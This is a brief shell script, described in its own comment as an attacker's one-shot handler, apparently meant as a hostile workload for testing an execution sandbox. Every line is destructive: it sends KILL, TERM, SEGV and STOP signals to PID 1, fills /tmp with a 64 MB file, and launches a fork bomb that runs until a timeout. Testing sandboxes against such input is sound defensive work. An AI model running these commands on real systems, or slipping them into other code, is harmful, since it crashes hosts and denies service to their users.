#!/bin/sh
# An attacker's one-shot handler: signals PID 1, fills /tmp, then forks
# without end until its call times out.
kill -KILL 1; kill -TERM 1; kill -SEGV 1; kill -STOP 1
dd if=/dev/zero of=/tmp/fill bs=1M count=64 2>/dev/null
b() { b | b & }
b &
sleep 60
